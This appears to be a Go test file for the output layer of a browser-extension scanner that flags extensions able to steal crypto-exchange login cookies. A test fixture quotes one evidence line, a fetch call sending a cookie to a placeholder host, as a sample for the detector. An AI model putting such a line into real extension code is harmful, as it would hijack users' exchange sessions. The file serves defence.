package cli

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/owenrumney/go-sarif/v3/pkg/report/v210/sarif"

	"github.com/extwatch/extwatch/agent/browsers"
	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures"
)

// go test ./agent/cli -update writes the golden files anew; look at the difference before keeping it.
var update = flag.Bool("update", false, "write testdata/*.golden anew")

// noon is the time at which all golden reports are made.
var noon = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

func testConsole(out *bytes.Buffer) *console {
	return &console{out: out, err: out, width: defaultWidth, now: func() time.Time { return noon }}
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(strings.ReplaceAll(string(want), "\r\n", "\n"), got); diff != "" {
		t.Errorf("%s differs (-want +got):\n%s", path, diff)
	}
}

// testRules knows one exchange, so that no golden file depends on the published catalog.
func testRules(t *testing.T) rulesets {
	t.Helper()
	rs, err := signatures.Load(fstest.MapFS{
		"version.txt":             {Data: []byte("7")},
		"catalog/wallets.yml":     {Data: []byte("wallets: []\n")},
		"catalog/permissions.yml": {Data: []byte("permissions: []\n")},
		"catalog/exchanges.yml": {Data: []byte(`generic:
  user: ["Lock the account from another device"]
  admin: ["Block the ID by policy"]
exchanges:
  - slug: binance
    title: Binance
    domains: [binance.com]
    response: {user: ["Turn on the withdrawal whitelist: https://www.binance.com/en/my/security"]}
    references: ["https://www.binance.com/"]
`)},
	})
	if err != nil {
		t.Fatal(err)
	}
	return rulesets{rs}
}

// thief is the extension that most tests are about.
func thief() judged {
	profile := &browsers.Profile{Browser: "chrome", Title: "Google Chrome", Name: "Profile 1", Display: "Work", User: browsers.User{Name: "ada"}}
	return judged{
		profile: profile,
		ext: manifests.Extension{
			Browser: "chrome", Channel: "stable", User: "ada", Profile: "Profile 1", ProfileTitle: "Work",
			ID: "abcdefghijklmnopabcdefghijklmnop", Path: "/home/ada/Downloads/aggr helper", Origin: manifests.OriginUnpacked, CommandLine: true,
			Enabled: true, InstalledAt: noon.Add(-3 * time.Second),
			Manifest: &manifests.Manifest{Kind: manifests.KindExtension, ManifestVersion: 3, Name: "Aggr Helper", Version: "1.2.3"},
			Granted:  &manifests.Access{APIs: []string{"cookies"}, Hosts: []string{"<all_urls>"}},
		},
		result: signatures.Result{
			Verdict: signatures.Suspicious,
			Reach: []signatures.Reach{
				{Exchange: "binance", Title: "Binance", Capabilities: []string{"session.read", "page.read"}, Because: []string{"permissions: cookies", "host_permissions: <all_urls>"}},
				{Exchange: "okx", Title: "OKX", Capabilities: []string{"session.read"}},
				{Exchange: "bybit", Title: "Bybit"},
			},
			Findings: []signatures.Finding{{
				Rule: "session-cookie-theft", Title: "Reads the login session of an exchange", Level: "high", Verdict: signatures.Suspicious,
				Description: "It was put there by another program and can read the cookie that keeps you logged in at Binance.",
				Evidence: []signatures.Evidence{
					{Key: "permissions", Text: "cookies"},
					{File: "bg.js", Line: 12, Column: 3, Text: `fetch("https://collect.example/?c=" + c)`},
				},
				FalsePositives: []string{"a portfolio tracker that you installed yourself may need this"},
				References:     []string{"https://news.example/aggr"},
				Response: signatures.Response{
					User:  []string{"Lock the account in the exchange's mobile app, from another device.", "Delete every API key."},
					Admin: []string{"Block the ID by policy."},
				},
			}},
		},
	}
}

func testReport(t *testing.T) *report {
	t.Helper()
	plain := func(name string, v signatures.Verdict, origin manifests.Origin) judged {
		j := thief()
		j.ext.ID = strings.Repeat("b", 32)
		j.ext.Origin, j.ext.CommandLine = origin, false
		j.ext.Manifest = &manifests.Manifest{ManifestVersion: 3, Name: name, Version: "2.0"}
		j.result = signatures.Result{Verdict: v}
		return j
	}
	capable := plain("交易助手 Trading", signatures.Capable, manifests.OriginStore)
	capable.result.Reach = thief().result.Reach
	off := plain("Coupons", signatures.Capable, manifests.OriginSideloaded)
	off.ext.Enabled, off.ext.Disabled = false, []string{"user_action"}
	broken := plain("", signatures.Unreadable, manifests.OriginUnknown)
	broken.ext.Manifest, broken.ext.Unreadable = nil, "manifest.json: line 1, column 3: a string has no end"
	other := plain("uBlock Origin", signatures.Clean, manifests.OriginStore)
	other.profile = &browsers.Profile{Browser: "firefox", Title: "Firefox", Name: "x.default"}
	other.ext.Browser, other.ext.Profile, other.ext.ProfileTitle = "firefox", "x.default", ""
	r := &report{judged: true, rules: testRules(t), profiles: 2, seconds: 0.42, extensions: []judged{
		other, plain("Web Store", signatures.Clean, manifests.OriginBuiltin), capable, off, broken, thief(), plain("Dark Reader", signatures.Clean, manifests.OriginStore),
	}, problems: []manifests.Problem{{Path: "/home/bob", Reason: "no permission to read it"}}}
	r.sort()
	return r
}

func TestTable(t *testing.T) {
	for _, all := range []bool{false, true} {
		var out bytes.Buffer
		if err := writeTable(testConsole(&out), testReport(t), all); err != nil {
			t.Fatal(err)
		}
		name := "table"
		if all {
			name = "table-all"
		}
		golden(t, name, out.String())
		for _, line := range strings.Split(out.String(), "\n") {
			if cells(line) > defaultWidth {
				t.Errorf("%s: %d cells: %q", name, cells(line), line)
			}
		}
	}
}

func TestInventoryTable(t *testing.T) {
	r := testReport(t)
	r.judged = false
	var out bytes.Buffer
	if err := writeTable(testConsole(&out), r, false); err != nil {
		t.Fatal(err)
	}
	golden(t, "table-inventory", out.String())
}

func TestColor(t *testing.T) {
	var out bytes.Buffer
	c := testConsole(&out)
	c.color = true
	if err := writeTable(c, testReport(t), false); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "\x1b[1;33msuspicious\x1b[0m") {
		t.Errorf("no colour in\n%q", out.String())
	}
}

func TestJSON(t *testing.T) {
	var out bytes.Buffer
	r := testReport(t)
	if err := writeJSON(testConsole(&out), r); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), "null") {
		t.Errorf("a list is null:\n%s", out.String())
	}
	golden(t, "json", out.String())
	r.judged, r.problems, r.extensions = false, nil, nil
	out.Reset()
	if err := writeJSON(testConsole(&out), r); err != nil {
		t.Fatal(err)
	}
	var got map[string]any
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	want := map[string]any{"schema": 1.0, "engine": engineVersion, "extensions": []any{}, "problems": []any{},
		"summary": map[string]any{"extensions": 0.0, "seconds": 0.42}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("inventory of nothing (-want +got):\n%s", diff)
	}
}

func TestSARIF(t *testing.T) {
	r := testReport(t)
	out, back := validSARIF(t, r)
	results := back.Runs[0].Results
	if len(results) != 2 {
		t.Fatalf("%d results, want 2", len(results))
	}
	var got []string
	for _, res := range results {
		got = append(got, *res.RuleID, res.Level, *res.Locations[0].PhysicalLocation.ArtifactLocation.URI)
	}
	want := []string{
		"session-cookie-theft", "warning", "file:///home/ada/Downloads/aggr%20helper/manifest.json",
		"unreadable-extension", "warning", "file:///home/ada/Downloads/aggr%20helper/manifest.json",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("results (-want +got):\n%s", diff)
	}
	golden(t, "sarif", out)
}

func TestSARIFOfNothing(t *testing.T) {
	if _, back := validSARIF(t, &report{judged: true}); len(back.Runs) != 1 || len(back.Runs[0].Results) != 0 {
		t.Errorf("got %+v, want one run without results", back)
	}
}

// validSARIF writes a report and holds it against the standard's schema.
func validSARIF(t *testing.T, r *report) (string, *sarif.Report) {
	t.Helper()
	var out bytes.Buffer
	if err := writeSARIF(testConsole(&out), r); err != nil {
		t.Fatal(err)
	}
	var back sarif.Report
	strict := json.NewDecoder(bytes.NewReader(out.Bytes()))
	strict.DisallowUnknownFields()
	if err := strict.Decode(&back); err != nil {
		t.Fatal(err)
	}
	if err := back.Validate(); err != nil {
		for line := range strings.Lines(strings.Trim(strings.TrimPrefix(err.Error(), "validation failed: "), "[]")) {
			// The library writes null, and an empty language, for what is not there.
			if line = strings.TrimSpace(line); line != "" && !strings.HasSuffix(line, "given: null") && !strings.Contains(line, "language: Does not match") {
				t.Errorf("not valid SARIF 2.1.0: %s", line)
			}
		}
	}
	return out.String(), &back
}

func TestFileURI(t *testing.T) {
	for _, tt := range []struct{ path, file, want string }{
		{"/a b/c", "x.js", "file:///a%20b/c/x.js"},
		{"/a/c.crx", "x.js", "file:///a/c.crx%21/x.js"},
		{"C:/Users/ada", "x.js", "file:///C:/Users/ada/x.js"},
		{"", "x.js", "x.js"},
		{"/a#b?", "%.js", "file:///a%23b%3F/%25.js"},
	} {
		if got := fileURI(tt.path, tt.file); got != tt.want {
			t.Errorf("fileURI(%q, %q) = %q, want %q", tt.path, tt.file, got, tt.want)
		}
	}
}

func TestWarning(t *testing.T) {
	j := thief()
	var out bytes.Buffer
	c := testConsole(&out)
	lines := writeWarning(c, explain(&j.ext, &j.result, j.code, j.profile, testRules(t), noon))
	if len(lines) > 25 {
		t.Errorf("%d lines: too long beside a frightened person", len(lines))
	}
	golden(t, "warning", strings.Join(lines, "\n")+"\n")
}

func TestWarningIsBounded(t *testing.T) {
	j := thief()
	f := &j.result.Findings[0]
	j.ext.Manifest.Name = strings.Repeat("A\x1b[2J\n\u202e", 1000)
	j.ext.Path = "/" + strings.Repeat("x", 5000)
	for range 100 {
		f.Evidence = append(f.Evidence, signatures.Evidence{Key: strings.Repeat("k", len(f.Evidence)), Text: strings.Repeat("\u200b", 500)})
		f.Response.User = append(f.Response.User, "Do thing "+strings.Repeat("i", len(f.Response.User)))
	}
	var out bytes.Buffer
	lines := writeWarning(testConsole(&out), explain(&j.ext, &j.result, j.code, j.profile, testRules(t), noon))
	if len(lines) > 50 {
		t.Errorf("%d lines", len(lines))
	}
	for _, l := range lines {
		if strings.ContainsAny(l, "\x1b\n\r\u202e\u200b") {
			t.Errorf("unclean line %q", l)
		}
	}
}
